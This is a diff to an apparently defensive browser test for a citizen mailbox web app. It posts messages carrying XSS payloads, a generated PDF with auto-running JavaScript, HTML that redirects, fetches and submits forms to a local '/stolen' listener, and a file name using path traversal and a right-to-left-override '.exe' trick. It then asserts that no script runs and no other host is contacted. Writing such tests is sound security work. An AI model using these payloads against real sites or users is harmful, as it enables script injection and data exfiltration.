@@ -6,8 +6,9 @@ runs, nothing leaves for another host, the page stays where it is, and the citiz
 """
 
 import argparse
-import os
+import http.server
 import sys
+import threading
 import urllib.parse
 from dataclasses import dataclass
 
@@ -20,19 +21,66 @@ from visitor import Visitor, launch
 SECONDS_MAX = 600
 NUMBER = "78041299916"
 SPEAK = "window.top.hostile = 1; window.hostile = 1; alert('hostile')"
-ELSEWHERE = "http://127.0.0.1:9/stolen"
-HTML = f"""<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url={ELSEWHERE}">
-<base href="{ELSEWHERE}/"><link rel="stylesheet" href="{ELSEWHERE}.css"><script src="{ELSEWHERE}.js"></script>
-<script>{SPEAK}; top.location = '{ELSEWHERE}'; fetch('{ELSEWHERE}'); window.open('{ELSEWHERE}')</script></head>
-<body onload="{SPEAK}"><h1>Hostile</h1><img src="{ELSEWHERE}.png" onerror="{SPEAK}">
-<svg onload="{SPEAK}"></svg><iframe src="{ELSEWHERE}"></iframe><iframe srcdoc="<script>{SPEAK}</script>"></iframe>
-<object data="{ELSEWHERE}"></object><video src="{ELSEWHERE}" autoplay></video>
-<form id="f" action="{ELSEWHERE}" target="_top"><input name="q" autofocus onfocus="{SPEAK}"></form>
-<script>document.getElementById('f').submit()</script>
-<style>body {{ background: url({ELSEWHERE}.gif) }}</style></body></html>""".encode()
 SUBJECT = f"""</h1><script>{SPEAK}</script><img src=x onerror="{SPEAK}">"'`{{{{t.unread}}}}"""
-TEXT = f"""</p><script>{SPEAK}</script><img src={ELSEWHERE} onerror="{SPEAK}"> javascript:alert(1) {{{{{{sender}}}}}}"""
 NAME = "\"><script>alert('hostile')</script>/../..\\..\\name\u202Efdp.exe"
+
+
+def text(elsewhere):
+    return f"""</p><script>{SPEAK}</script><img src={elsewhere} onerror="{SPEAK}"> javascript:alert(1) {{{{{{sender}}}}}}"""
+
+
+def page(elsewhere):
+    return f"""<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url={elsewhere}">
+<base href="{elsewhere}/"><link rel="stylesheet" href="{elsewhere}.css"><script src="{elsewhere}.js"></script>
+<script>{SPEAK}; top.location = '{elsewhere}'; fetch('{elsewhere}'); window.open('{elsewhere}')</script></head>
+<body onload="{SPEAK}"><h1>Hostile</h1><img src="{elsewhere}.png" onerror="{SPEAK}">
+<svg onload="{SPEAK}"></svg><iframe src="{elsewhere}"></iframe><iframe srcdoc="<script>{SPEAK}</script>"></iframe>
+<object data="{elsewhere}"></object><video src="{elsewhere}" autoplay></video>
+<form id="f" action="{elsewhere}" target="_top"><input name="q" autofocus onfocus="{SPEAK}"></form>
+<script>document.getElementById('f').submit()</script>
+<style>body {{ background: url({elsewhere}.gif) }}</style></body></html>""".encode()
+
+
+def pdf(elsewhere):
+    """One page that runs a script when it opens, and leads elsewhere wherever one clicks."""
+    script = f"app.alert('hostile'); this.submitForm('{elsewhere}'); app.launchURL('{elsewhere}'); this.getURL('{elsewhere}')"
+    script = script.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
+    objects = [
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /AA << /O 4 0 R >> /Annots [<< /Type /Annot /Subtype /Link "
+        f"/Rect [0 0 300 300] /A << /S /URI /URI ({elsewhere}) >> >>] >>",
+        f"<< /Type /Action /S /JavaScript /JS ({script}) >>",
+    ]
+    written, places = b"%PDF-1.7\n", []
+    for number, item in enumerate(objects, 1):
+        places.append(len(written))
+        written += f"{number} 0 obj\n{item}\nendobj\n".encode()
+    table = "".join(f"{place:010d} 00000 n \n" for place in places)
+    return written + (f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size {len(objects) + 1} "
+                      f"/Root 1 0 R >>\nstartxref\n{len(written)}\n%%EOF\n").encode()
+
+
+class Elsewhere:
+    """Another host, that would be glad to hear."""
+
+    def __init__(self):
+        self.heard = []
+
+        class Listener(http.server.BaseHTTPRequestHandler):
+            def do_GET(request):
+                self.heard.append(request.path)
+                request.send_response(204)
+                request.end_headers()
+
+            do_POST = do_HEAD = do_OPTIONS = do_GET
+
+            def log_message(request, *_):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+        self.url = f"http://127.0.0.1:{self.server.server_port}/stolen"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
 
 
 @dataclass
@@ -41,47 +89,41 @@ class Case:
     document: bytes
     media_type: str
     ending: str
+    # What a browser's own PDF viewer says in the name of a document is beyond us; it says whose it is.
+    may_speak: bool = False
 
 
-def cases(demo):
-    with open(os.path.join(demo.data, "letters", "scripted-nl.pdf"), "rb") as letter:
-        scripted = letter.read()
+def cases(elsewhere):
+    html = page(elsewhere)
     return [
-        Case("pdf with a script", scripted, "application/pdf", ".pdf"),
-        Case("html", HTML, "text/html", ".html"),
-        Case("html that says it is a pdf", HTML, "application/pdf", ".pdf"),
-        Case("html that says it is plain text", HTML, "text/plain", ".txt"),
-        Case("xml with a style sheet of its own", b'<?xml version="1.0"?><?xml-stylesheet href="' + ELSEWHERE.encode()
+        Case("pdf with a script", pdf(elsewhere), "application/pdf", ".pdf", may_speak=True),
+        Case("html", html, "text/html", ".html"),
+        Case("html that says it is a pdf", html, "application/pdf", ".pdf"),
+        Case("html that says it is plain text", html, "text/plain", ".txt"),
+        Case("xml with a style sheet of its own", b'<?xml version="1.0"?><?xml-stylesheet href="' + elsewhere.encode()
              + b'" type="text/xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>' + SPEAK.encode()
              + b"</h:script></a>", "text/xml", ".xml"),
     ]
 
 
-class Watch:
+def watch(visitor, case):
     """What must not happen while a citizen looks."""
+    seen = []
 
-    def __init__(self, visitor, own):
-        self.own, self.seen = own, []
-        context = visitor.context
-        context.on("request", self.request)
-        context.on("dialog", self.dialog)
-        context.on("page", lambda page: page.on("popup", lambda popup: self.seen.append(f"popup {popup.url}")))
+    def dialog(opened):
+        if not case.may_speak:
+            seen.append(f"dialog {opened.message}")
+        opened.dismiss()
 
-    def request(self, request):
-        parts = urllib.parse.urlsplit(request.url)
-        is_viewer = parts.scheme in ("data", "blob", "chrome-extension", "chrome", "about")
-        if not is_viewer and f"{parts.scheme}://{parts.netloc}" != self.own:
-            self.seen.append(f"request to {request.url}")
-
-    def dialog(self, dialog):
-        self.seen.append(f"dialog {dialog.message}")
-        dialog.dismiss()
+    visitor.context.on("dialog", dialog)
+    visitor.page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
+    return seen
 
 
-def look(visitor, case, message):
+def look(visitor, case, message, elsewhere):
     """The list, the message, the document in the page, in a tab of its own, and downloaded."""
     page, own = visitor.page, visitor.demo.file["baseURL"]
-    watch = Watch(visitor, own)
+    seen = watch(visitor, case)
     visitor.open("/inbox")
     visitor.open(f"/messages/{message}")
     expect(page.locator("h1")).to_contain_text("</h1><script>")
@@ -112,7 +154,8 @@ def look(visitor, case, message):
                 raise
         finally:
             tab.close()
-    assert not watch.seen, "; ".join(watch.seen)
+    assert not seen, "; ".join(seen)
+    assert not elsewhere.heard, f"another host was told: {elsewhere.heard}"
 
 
 def main():
@@ -123,15 +166,16 @@ def main():
     words, failed = texts.read(), 0
     with running_demo(chosen.ebox) as demo, sync_playwright() as playwright:
         browser = launch(playwright)
-        found = cases(demo)
+        elsewhere = Elsewhere()
+        found = cases(elsewhere.url)
         for case in found:
             visitor = Visitor(browser, demo, words, "nl")
             try:
                 status, answer = demo.publish(
                     demo.sender_token(), NUMBER, case.document, subject=SUBJECT, file_name=NAME + case.ending,
-                    media_type=case.media_type, text=TEXT)
+                    media_type=case.media_type, text=text(elsewhere.url))
                 assert status == 201, f"publishing answered {status} {answer}"
-                look(visitor.sign_in(NUMBER), case, answer["messageId"])
+                look(visitor.sign_in(NUMBER), case, answer["messageId"], elsewhere)
                 print(f"{case.name}: nothing ran, nothing left", flush=True)
             except Exception as failure:
                 failed += 1
